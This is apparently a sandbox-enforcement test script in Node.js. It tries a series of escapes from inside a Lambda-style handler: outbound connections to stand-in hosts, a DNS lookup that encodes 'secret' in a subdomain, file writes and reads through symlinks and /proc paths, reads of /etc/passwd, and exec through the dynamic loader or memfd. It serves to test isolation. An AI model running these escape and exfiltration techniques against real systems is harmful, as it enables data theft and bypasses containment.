// `node attempts.cjs NAME`: the attempts of attempts.py, as a dependency in JavaScript would make them. What JavaScript
// has no call for is made by a library that is loaded (attempts_native.c, PEER_NATIVE).
'use strict';
const child = require('node:child_process');
const dgram = require('node:dgram');
const dns = require('node:dns');
const fs = require('node:fs');
const net = require('node:net');

const ECHO = '/bin/echo';
const LOADER = process.arch === 'x64' ? '/lib64/ld-linux-x86-64.so.2' : '/lib/ld-linux-aarch64.so.1';
const got = (when) => when && fs.writeSync(1, 'GOT\n');
const holds = (path) => got(fs.readFileSync(path, 'utf8').includes('HANDLER-SECRET'));
const write = (path) => got(fs.writeSync(fs.openSync(path, 'w'), 'x') === 1);
const native = () => process.dlopen({ exports: {} }, process.env.PEER_NATIVE);
const print = (result) => result.stdout && fs.writeSync(1, result.stdout);
const send = (data, port, host) => {
  const socket = dgram.createSocket('udp4');
  socket.send(data, port, host, () => socket.close());
};
const connect = (host, port, then) => {
  const socket = net.connect({ host, port, timeout: 2000 });
  socket.on('connect', () => then(socket)).on('error', (error) => console.error(error.message));
};
const query = () => {
  const labels = ['agfuza', 'denied', 'example'].map((x) => String.fromCharCode(x.length) + x).join('');
  return Buffer.from(`\x12\x34\x01\0\0\x01\0\0\0\0\0\0${labels}\0\0\x01\0\x01`, 'latin1');
};

const attempts = {
  connect4: () => connect('203.0.113.9', 443, (socket) => (got(true), socket.destroy())),
  connect6_raw: native,
  udp_sendto: () => send('data', 443, '203.0.113.9'),
  dns_lookup: () => dns.lookup('c2vjcmv0.denied.example', () => {}),
  dns_by_hand: () => send(query(), 53, '203.0.113.53'),
  tmp_open: () => write('/tmp/open'),
  tmp_raw: native,
  tmp_relative: () => (process.chdir('/'), write('tmp/relative')),
  tmp_symlink: () => write('link/symlink'),
  tmp_openat2: native,
  run_vfork: () => print(child.spawnSync(ECHO, ['GOT'])),
  spawn_loader: () => print(child.spawnSync(LOADER, [ECHO, 'GOT'])),
  run_system: native,
  fork_execve_raw: native,
  memfd_exec: native,
  read_open: () => holds('app.js'),
  read_symlink: () => holds('alias.js'),
  read_raw: native,
  read_openat2: native,
  read_reopened: () => holds(`/proc/self/fd/${fs.openSync('alias.js', fs.constants.O_RDONLY | 0o10000000)}`),
  allowed: () => {
    const said = (name, step) => {
      try {
        step();
        fs.writeSync(1, `${name}\n`);
      } catch (error) {
        console.error(error.message);
      }
    };
    said('file', () => fs.readFileSync('/etc/passwd'));
    said('program', () => {
      const done = child.spawnSync('/bin/true');
      if (done.error) throw done.error;
    });
    fs.writeSync(1, 'local\n'); // the event that was asked for came over it
    send('', 53, '203.0.113.53');
    fs.writeSync(1, 'resolver\n');
  },
};

const [host, port] = process.env.AWS_LAMBDA_RUNTIME_API.split(':');
connect(host, Number(port), (socket) => {
  socket.write('GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n');
  socket.once('data', () => {
    socket.destroy();
    try {
      attempts[process.argv[2]]();
    } catch (error) {
      console.error(`${error.name}: ${error.message}`);
    }
  });
});
